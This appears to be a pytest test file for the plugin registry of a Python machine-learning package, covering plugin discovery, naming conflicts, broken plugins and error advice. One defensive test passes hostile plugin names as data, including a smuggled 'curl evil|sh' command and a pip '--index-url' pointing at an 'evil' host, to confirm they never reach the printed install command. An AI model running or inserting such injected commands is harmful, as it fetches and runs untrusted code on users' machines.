"""The registry: names to plugins, lazily; one broken plugin breaks nothing but itself."""

import json
import os
import pickle
import subprocess
import sys
import tomllib
from pathlib import Path

import numpy as np
import pytest

import mlpkit
from mlpkit import errors
from mlpkit.plugin import CONTRACTS, REGISTRIES, Elementwise
from mlpkit.plugin.builtin_names import CLASSES
from mlpkit.plugin.registry import snake_case
from mlpkit.spec import Spec
from mlpkit.spec.network import Layer

from ..sampling import one_in

PLUGIN = """
import mlpkit

class {cls}(mlpkit.Elementwise):
    def function(self, z):
        return z
    def derivative(self, z, y):
        return 1.0
"""


def activation(name):
    return REGISTRIES["activations"].get(name)


def test_the_names_of_built_ins_are_written_once():
    text = (Path(__file__).parents[2] / "pyproject.toml").read_text()
    assert not [group for group in tomllib.loads(text)["project"]["entry-points"] if group.startswith("mlpkit.")]
    assert CLASSES.keys() == REGISTRIES.keys()


@pytest.mark.parametrize("contract", CONTRACTS, ids=lambda contract: contract.kind)
def test_every_builtin_loads_and_says_what_it_is(contract):
    registry = REGISTRIES[contract.kind]
    for name in (*registry.builtins, *registry.aliases):
        cls = registry.get(name)
        assert issubclass(cls, contract)
        assert cls.__doc__
        assert registry.info(cls).name == registry.aliases.get(name, name)


def test_a_builtin_name_never_looks_at_the_environment(monkeypatch):
    monkeypatch.setattr("importlib.metadata.distributions", lambda **_: pytest.fail("scanned"))
    mlpkit.refresh_plugins()
    assert activation("relu") is activation("mlpkit:relu")


def test_a_plugin_is_found_and_imported_only_when_asked_for(install):
    module = install("dist-swish", "swish_x", PLUGIN.format(cls="Plugin"))
    (info,) = [info for info in mlpkit.plugins("activations") if info.distribution == "dist-swish"]
    assert (info.full_name, info.version, info.target) == ("dist-swish:swish_x", "1.2", f"{module}:Plugin")
    assert module not in sys.modules
    cls = activation("swish_x")
    assert activation("dist-swish:swish_x") is cls
    assert REGISTRIES["activations"].info(cls) == info


def test_a_spec_stores_the_full_name(install):
    install("dist-swish", "swish_x", PLUGIN.format(cls="Plugin"))
    spec = Spec.model_validate({"network": {"layers": [{"units": 1, "activation": "swish_x"}]}, "loss": "mse"})
    assert spec.to_dict()["network"]["layers"][0]["activation"] == "dist-swish:swish_x"
    assert Spec.model_validate(spec.to_dict()) == spec


def test_unknown_names_get_the_nearest_and_the_installed():
    with pytest.raises(errors.MissingPlugin) as caught:
        activation("sigmiod")
    assert "did you mean 'sigmoid'" in str(caught.value)
    assert "leaky_relu" in caught.value.help
    with pytest.raises(errors.MissingPlugin, match="pip install mlpkit-none"):
        activation("mlpkit-none:what")


def test_two_distributions_with_one_name(install):
    install("dist-one", "same", PLUGIN.format(cls="Plugin"))
    install("dist-two", "same", PLUGIN.format(cls="Plugin"))
    with pytest.raises(errors.AmbiguousPlugin, match="'dist-one:same' or 'dist-two:same'"):
        activation("same")
    assert activation("dist-two:same").__module__ == "dist_two"


ALLOWED = {"": {"one", "two"}, "0": set(), "dist-one": {"one"}, "Dist_Two, mlpkit-none": {"two"}, "dist-one,dist-two": {"one", "two"}}


@pytest.mark.parametrize("value", ALLOWED)
def test_the_environment_chooses_the_distributions(install, monkeypatch, value):
    install("dist-one", "one", PLUGIN.format(cls="Plugin"))
    install("dist-two", "two", PLUGIN.format(cls="Plugin"))
    monkeypatch.setenv("MLPKIT_PLUGINS", value)
    mlpkit.refresh_plugins()
    assert {info.name for info in mlpkit.plugins("activations") if info.name in ("one", "two")} == ALLOWED[value]
    for name in {"one", "two"} - ALLOWED[value]:
        with pytest.raises(errors.MissingPlugin, match=f"MLPKIT_PLUGINS excludes the activation '{name}'") as caught:
            activation(name)
        assert f"add dist-{name} to it" in caught.value.help
    assert activation("relu") is mlpkit.activations.ReLU


DOUBTFUL = {"relu": "is that of a built-in", "same": "shared by dist-one:same and dist-two:same", "Bad": "must match"}


@pytest.mark.parametrize("name", DOUBTFUL)
def test_strictly_what_is_doubtful_is_an_error(install, monkeypatch, name):
    install("dist-one", name, PLUGIN.format(cls="Plugin"))
    if name == "same":
        install("dist-two", name, PLUGIN.format(cls="Plugin"))
    assert {"relu", name} <= {info.name for info in mlpkit.plugins("activations")}
    monkeypatch.setenv("MLPKIT_STRICT_PLUGINS", "1")
    mlpkit.refresh_plugins()
    with pytest.raises(errors.BrokenPlugin, match=DOUBTFUL[name]) as caught:
        mlpkit.plugins("activations")
    assert "dist-one 1.2 (entry point dist_one:Plugin)" in caught.value.message


def test_strictly_a_broken_plugin_is_not_left_out_of_the_schema(install, monkeypatch):
    install("dist-broken", "broken", "import nothing_of_this_name")
    assert Spec.model_json_schema()
    monkeypatch.setenv("MLPKIT_STRICT_PLUGINS", "1")
    with pytest.raises(errors.BrokenPlugin, match="nothing_of_this_name"):
        Spec.model_json_schema()


def test_options_that_json_does_not_have_break_no_schema_but_a_strict_one(install, monkeypatch):
    install("dist-bytes", "bytes_x", PLUGIN.format(cls="Plugin") + "    raw: bytes = b'\\xff'\n")
    assert Spec.model_json_schema()
    monkeypatch.setenv("MLPKIT_STRICT_PLUGINS", "1")
    with pytest.raises(errors.BrokenPlugin, match=r"'bytes_x' of dist-bytes 1\.2 .* has options that JSON cannot represent"):
        Spec.model_json_schema()


def test_a_plugin_installed_later_is_found_after_a_refresh(install):
    install("dist-one", "one", PLUGIN.format(cls="Plugin"))
    assert activation("one")
    info = install.site / "dist_late-3.0.dist-info"
    info.mkdir()
    (info / "METADATA").write_text("Metadata-Version: 2.1\nName: dist-late\nVersion: 3.0\n")
    (info / "entry_points.txt").write_text("[mlpkit.activations]\nlate = dist_one:Plugin\n")
    with pytest.raises(errors.MissingPlugin):
        activation("late")
    mlpkit.refresh_plugins()
    assert activation("late").__module__ == "dist_one"


@pytest.mark.slow
def test_a_plugin_that_takes_a_minute_to_import_slows_nothing_that_does_not_use_it(install, tmp_path):
    slow = "import time\ntime.sleep(3600)\n" + PLUGIN.format(cls="Plugin")
    install("dist-slow", "slow", slow)
    spec = {"network": {"layers": [{"units": 2, "activation": "relu"}, {}]}, "loss": "mse", "training": {"epochs": 1}}
    (tmp_path / "spec.json").write_text(json.dumps({**spec, "data": {"path": "rows.csv", "target": "y"}}))
    (tmp_path / "rows.csv").write_text("x,y\n" + "".join(f"{row},{row}.5\n" for row in range(9)))
    env = {**os.environ, "PYTHONPATH": str(install.site)}
    for command in (
        "--help",
        "plugins list",
        "check spec.json",
        "train spec.json -o model.h5",
        "info model.h5",
        "predict model.h5 rows.csv",
    ):
        argv = [sys.executable, "-m", "mlpkit", *command.split()]
        done = subprocess.run(argv, cwd=tmp_path, env=env, capture_output=True, text=True, timeout=600, check=True)
        assert "dist-slow:slow" in done.stdout or command != "plugins list"


def test_a_builtin_name_always_means_the_builtin(install):
    install("dist-relu", "relu", PLUGIN.format(cls="Plugin"))
    assert activation("relu") is mlpkit.activations.ReLU
    assert activation("dist-relu:relu").__module__ == "dist_relu"


BROKEN = {
    "does not import": ("import nothing_of_this_name", "ModuleNotFoundError"),
    "syntax": ("class", "SyntaxError"),
    "no such class": ("", "AttributeError"),
    "not a plugin": ("Plugin = int", "not a subclass of Activation"),
    "wrong kind": (PLUGIN.format(cls="Other") + "\nfrom mlpkit.losses import MeanSquaredError as Plugin", "not a subclass"),
    "unfinished": ("import mlpkit\nclass Plugin(mlpkit.Elementwise):\n    pass", "does not define derivative, function"),
    "option called type": (PLUGIN.format(cls="Plugin") + "    type: str = ''", "option called 'type'"),
    "fails": ("raise RuntimeError('no licence')", "no licence"),
    "exits": ("raise SystemExit('no licence')", "SystemExit: no licence"),
    "mutable option": (PLUGIN.format(cls="Plugin") + "    knots: list[float] = []", "the option 'knots' of Plugin is a list"),
    "options thaw": (PLUGIN.format(cls="Plugin") + "    model_config = {'frozen': False}", "mutable options"),
}
TARGETS = {
    "a module that is not there": ("dist_away:Plugin", "ModuleNotFoundError"),
    "a class that is not there": ("dist_broken:Nothing", "has no attribute 'Nothing'"),
    "no class": ("dist_broken", "an entry point is name = 'module:Class'"),
    "nothing": ("", "entry point without a target"),
}


@pytest.mark.parametrize("case", TARGETS)
def test_an_entry_point_to_nothing(install, case):
    target, words = TARGETS[case]
    install("dist-broken", "broken", PLUGIN.format(cls="Plugin"), target)
    with pytest.raises(errors.BrokenPlugin) as caught:
        activation("broken")
    assert words in caught.value.message
    assert "'broken' of dist-broken 1.2 (entry point" in caught.value.message
    assert "reinstall or update dist-broken" in caught.value.help


def test_a_metric_must_say_what_it_measures(install):
    code = "import mlpkit\nclass Plugin(mlpkit.Metric):\n    def compute(self, outputs, targets, weights):\n        return 0.0\n"
    install("dist-metric", "figure", code, group="metrics")
    with pytest.raises(errors.BrokenPlugin, match="Plugin does not define the class variables higher_is_better and task"):
        REGISTRIES["metrics"].get("figure")
    with pytest.raises(errors.SpecError, match="accuracy do not fit the task"):  # and it breaks no message that lists the others
        mlpkit.train({"network": {"layers": [{}]}, "loss": "mse", "metrics": ["accuracy"]}, np.arange(3.0)[:, None], np.arange(3.0))


@pytest.mark.parametrize("damage", ["entry_points.txt", "METADATA"])
def test_a_distribution_with_damaged_metadata_hides_no_other(install, damage):
    install("dist-good", "good", PLUGIN.format(cls="Plugin"))
    install("dist-bad", "bad", PLUGIN.format(cls="Plugin"))
    (install.site / "dist_bad-1.2.dist-info" / damage).write_bytes(b"[mlpkit.activations]\nno equals sign \xff\xfe\n")
    mlpkit.refresh_plugins()
    assert activation("good").__module__ == "dist_good"


@pytest.mark.slow
def test_the_program_works_beside_a_distribution_with_damaged_entry_points(install):
    install("dist-bad", "bad", PLUGIN.format(cls="Plugin"))
    (install.site / "dist_bad-1.2.dist-info" / "entry_points.txt").write_text("[mlpkit.activations]\nnotarget\n")
    env = {**os.environ, "PYTHONPATH": str(install.site)}
    for command in (["plugins", "list"], ["plugins", "list", "-v"], ["doctor"], ["schema"]):
        done = subprocess.run([sys.executable, "-m", "mlpkit", *command], env=env, capture_output=True, text=True, check=True)
        assert done.stderr == ""
    with pytest.raises(errors.BrokenPlugin, match=r"'notarget' of dist-bad 1\.2 \(entry point without a target\)"):
        activation("notarget")


AWAY = """
import calcore
Plugin = calcore.Deep
Renamed = calcore.make()
"""
CORE = (
    PLUGIN.format(cls="Deep")
    + """

def make():
    class Hidden(Deep):
        pass
    return Hidden
"""
)


@pytest.mark.parametrize("target", ["dist_away:Plugin", "dist_away:Renamed"])
def test_a_plugin_may_be_defined_elsewhere_or_under_another_name(install, target, tmp_path):
    (install.site / "calcore.py").write_text(CORE)
    try:
        install("dist-away", "away", AWAY, target)
        spec = {"network": {"layers": [{"units": 2, "activation": "away"}, {"units": 1}]}, "loss": "mse", "training": {"epochs": 1}}
        model = mlpkit.train(spec, np.arange(4.0)[:, None], np.arange(4.0))
        model.save(tmp_path / "model.h5")
        assert mlpkit.inspect(tmp_path / "model.h5")["plugins"][0]["distribution"] == "dist-away"
        assert mlpkit.load(tmp_path / "model.h5").spec.to_dict()["network"]["layers"][0]["activation"] == "dist-away:away"
    finally:
        sys.modules.pop("calcore", None)


@pytest.mark.parametrize("name", ["--index-url=http://evil/ x:y", "evil\n\x1b[2J; curl evil|sh :x", "-r:x"])
def test_a_name_from_a_stranger_puts_nothing_into_the_line_to_copy(name):
    with pytest.raises(errors.MissingPlugin) as caught:
        activation(name)
    assert "pip install" not in caught.value.help
    assert str(caught.value).replace("\nhelp: ", "").isprintable()


@pytest.mark.parametrize("case", one_in(3, BROKEN))
def test_a_broken_plugin_is_named_and_breaks_nothing_else(install, case):
    code, words = BROKEN[case]
    install("dist-broken", "broken", code)
    install("dist-good", "good", PLUGIN.format(cls="Plugin"))
    with pytest.raises(errors.BrokenPlugin) as caught:
        activation("broken")
    assert words in str(caught.value)
    assert "dist-broken 1.2" in str(caught.value)
    assert activation("good").__module__ == "dist_good"
    assert {"broken", "good", "relu"} <= {info.name for info in mlpkit.plugins("activations")}
    assert "'dist-good:good'" in str(Layer.model_json_schema())


def test_a_plugin_with_a_bad_name(install):
    install("dist-bad", "Bad-Name", PLUGIN.format(cls="Plugin"))
    with pytest.raises(errors.BrokenPlugin, match="must match"):
        activation("Bad-Name")


def test_an_own_class_goes_by_its_name():
    class MyReLU(Elementwise):
        def function(self, z):
            return z

        def derivative(self, z, y):
            return 1.0

    assert mlpkit.register(MyReLU)[0].full_name == "my_relu"
    assert activation("my_relu") is MyReLU


def test_an_own_class_must_not_take_a_builtin_name():
    class Tanh(Elementwise):
        def function(self, z):
            return z

        def derivative(self, z, y):
            return 1.0

    with pytest.raises(errors.BrokenPlugin, match="'tanh' is the name of a built-in"):
        mlpkit.register(Tanh)


def test_an_own_class_goes_before_an_alias():
    """A class that was there before mlpkit had the alias works as before, and the built-in is found by its own name."""

    class Swish(Elementwise):
        def function(self, z):
            return z / (1 + np.exp(-z))

        def derivative(self, z, y):
            s = 1 / (1 + np.exp(-z))
            return s + y * (1 - s)

    assert activation("swish") is activation("silu")
    assert mlpkit.register(Swish)[0].full_name == "swish"
    assert activation("swish") is Swish
    assert activation("mlpkit:swish") is activation("silu")
    network = {"layers": [{"units": 2, "activation": activation("silu")()}, {"units": 1, "activation": "swish"}]}
    stored = [layer["activation"] for layer in Spec.model_validate({"network": network, "loss": "mse"}).to_dict()["network"]["layers"]]
    assert stored == ["silu", "swish"]


def test_an_own_class_must_not_take_the_name_of_another(tmp_path):
    for name in ("one", "two"):
        (tmp_path / f"{name}.py").write_text(PLUGIN.format(cls="Twice"))
    mlpkit.register_file(tmp_path / "one.py")
    mlpkit.register_file(tmp_path / "one.py")  # as a notebook does with a cell that is run again
    with pytest.raises(errors.BrokenPlugin, match="'twice' is already the name of your mlpkit_code_one:Twice"):
        mlpkit.register_file(tmp_path / "two.py")


def test_a_file_registers_what_it_defines(tmp_path):
    path = tmp_path / "mine.py"
    path.write_text(PLUGIN.format(cls="Straight"))
    assert [info.name for info in mlpkit.register_file(path)] == ["straight"]
    assert Spec.model_validate({"network": {"layers": [{"units": 1, "activation": "straight"}]}, "loss": "mse"})


def test_a_file_that_was_changed_at_once_is_run_as_it_is_now_and_leaves_no_cache(tmp_path, monkeypatch):
    monkeypatch.setattr(sys, "dont_write_bytecode", False)
    path = tmp_path / "quick.py"
    for number in (1, 2):
        path.write_text(PLUGIN.format(cls="Quick") + f"    number: int = {number}\n")
        os.utime(path, (1, 1))
        (info,) = mlpkit.register_file(path)
        assert activation(info.name)().number == number
    assert os.listdir(tmp_path) == ["quick.py"]


@pytest.mark.parametrize(
    ("code", "words"),
    [
        ("x = 1", "defines no plugin"),
        ("1 / 0", "ZeroDivisionError"),
        ("raise SystemExit(3)", "SystemExit: 3"),
        ("import mlpkit\nclass A(mlpkit.Loss): ...", "A does not define value_and_grad"),
    ],
)
def test_a_file_without_plugins(tmp_path, code, words):
    path = tmp_path / "mine.py"
    path.write_text(code)
    with pytest.raises(errors.BrokenPlugin, match=words):
        mlpkit.register_file(path)


UNTYPED = "import mlpkit\nimport numpy as np\nclass A(mlpkit.Loss):\n    width{}\n"


@pytest.mark.parametrize(
    ("code", "words"),
    [
        (
            "import nothing_of_this_name.deep",
            "needs the module 'nothing_of_this_name', which is not installed.*\n.*or put it into the folder of the file",
        ),
        (UNTYPED.format(" = 1.0"), "the option 'width' has no type.*\n.*width: float = 1.0$"),
        (UNTYPED.format(" = -3"), "width: int = -3$"),
        (UNTYPED.format(" = True"), "width: bool = True$"),
        (UNTYPED.format(" = 'a'"), "width: str = 'a'$"),
        (UNTYPED.format(" = np.float32(1)"), "width: float = "),
        (UNTYPED.format(": np.float32 = 1.0"), "the type numpy.float32, which JSON cannot represent.*\n.*use float"),
        (UNTYPED.format(": object() = 1.0"), "JSON cannot represent|PydanticSchemaGenerationError"),
    ],
)
def test_advice_for_a_file_that_does_not_run(tmp_path, code, words):
    path = tmp_path / "mine.py"
    path.write_text(code)
    with pytest.raises(errors.BrokenPlugin, match=words):
        mlpkit.register_file(path)


def test_a_file_imports_what_is_beside_it(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    before, folders = list(sys.path), ("one", "two")
    for folder in folders:
        (tmp_path / folder / "in_a_folder").mkdir(parents=True)
        (tmp_path / folder / "beside_it.py").write_text(f"place = {folder!r}\n")
        (tmp_path / folder / "in_a_folder" / "__init__.py").write_text("from in_a_folder.deep import place\n")
        (tmp_path / folder / "in_a_folder" / "deep.py").write_text("from beside_it import place\n")
        head = "from beside_it import place\nimport in_a_folder\n"
        (tmp_path / folder / "mine.py").write_text(head + PLUGIN.format(cls=f"Beside{folder.title()}"))
    try:
        for folder in (*folders, "one"):
            (info,) = mlpkit.register_file(f"{folder}/mine.py")
            module = sys.modules[info.target.partition(":")[0]]
            assert [module.place, module.in_a_folder.place] == [folder] * 2
            assert sys.path == before
        (tmp_path / "two" / "mine.py").write_text("import beside_it\n1 / 0")
        with pytest.raises(errors.BrokenPlugin, match="ZeroDivisionError"):
            mlpkit.register_file("two/mine.py")
        assert sys.path == before
    finally:
        for name in ("beside_it", "in_a_folder", "in_a_folder.deep"):
            sys.modules.pop(name, None)


def test_a_file_that_is_not_there(tmp_path):
    with pytest.raises(errors.BrokenPlugin, match="there is no file"):
        mlpkit.register_file(tmp_path / "none.py")


@pytest.mark.parametrize(
    ("name", "expected"), [("LeakyReLU", "leaky_relu"), ("SGD", "sgd"), ("GlorotUniform", "glorot_uniform"), ("R2", "r2"), ("ReLU", "relu")]
)
def test_snake_case(name, expected):
    assert snake_case(name) == expected


FOO = """
import mlpkit
class {name}(mlpkit.Elementwise):
    def function(self, z): return {factor} * z
    def derivative(self, z, y): return {factor} + 0 * z
"""


def test_two_files_of_one_name_do_not_take_each_others_place(tmp_path):
    for folder, name, factor in (("a", "Stretched", 2.0), ("b", "Stretched", 3.0), ("c", "Shrunk", 0.5)):
        (tmp_path / folder).mkdir()
        (tmp_path / folder / "stretching.py").write_text(FOO.format(name=name, factor=factor))
    (first,) = mlpkit.register_file(tmp_path / "a" / "stretching.py")
    cls = REGISTRIES["activations"].get("stretched")
    with pytest.raises(
        errors.BrokenPlugin, match=r"'stretched' is already the name of your mlpkit_code_stretching:Stretched: give the class another name"
    ):
        mlpkit.register_file(tmp_path / "b" / "stretching.py")
    assert REGISTRIES["activations"].get("stretched") is cls
    (other,) = mlpkit.register_file(tmp_path / "c" / "stretching.py")  # another class in a file of that name is none of the first one's
    assert (first.target, other.target) == ("mlpkit_code_stretching:Stretched", "mlpkit_code_stretching_2:Shrunk")
    assert pickle.loads(pickle.dumps(cls())) == cls()
    (again,) = mlpkit.register_file(tmp_path / "a" / "stretching.py")
    assert again.target == first.target


@pytest.mark.parametrize(
    ("kind", "name", "words", "not_words"),
    [
        ("activations", "rrelu", "unknown activation 'rrelu'\n", "relu'?"),
        ("activations", "maxout", "unknown activation 'maxout'\n", "did you mean"),
        ("activations", "relo", "did you mean 'relu' or 'relu6' ", ""),
        ("activations", "ReLU", "did you mean 'relu'?", ""),
        ("metrics", "auc", "did you mean 'roc_auc'?", ""),
        ("activations", "LeakyReLU", "did you mean 'leaky_relu'?", ""),
        ("activations", "Tanh", "did you mean 'tanh'?", ""),
        ("optimizers", "SGD", "did you mean 'sgd'?", ""),
        ("optimizers", "Adam", "did you mean 'adam'?", ""),
        ("optimizers", "AdamW", "did you mean 'adamw'?", ""),
        ("optimizers", "NAdam", "did you mean 'nadam'?", ""),
        ("optimizers", "RMSprop", "did you mean 'rmsprop'?", ""),
        ("optimizers", "ScheduleFreeAdamW", "did you mean 'schedule_free_adamw'?", ""),
        ("optimizers", "adafactor", "unknown optimizer 'adafactor'\n", "did you mean"),
        ("losses", "MSE", "did you mean 'mse'?", ""),
    ],
)
def test_only_a_slip_of_the_pen_is_answered_with_another_name(kind, name, words, not_words):
    with pytest.raises(errors.MissingPlugin) as caught:
        REGISTRIES[kind].get(name)
    assert words in str(caught.value)
    assert not not_words or not_words not in str(caught.value)


@pytest.mark.parametrize(
    ("kind", "name"), [("optimizers", "lbfgs"), ("optimizers", "LBFGS"), ("losses", "robust"), ("activations", "snake")]
)
def test_a_name_of_a_package_says_what_to_install(kind, name, monkeypatch):
    monkeypatch.setattr(REGISTRIES[kind], "_declared", list)
    monkeypatch.setattr(REGISTRIES[kind], "_found", list)
    with pytest.raises(errors.MissingPlugin, match=r"it is in the package mlpkit-\w+: pip install mlpkit-\w+, or in a checkout"):
        REGISTRIES[kind].get(name)
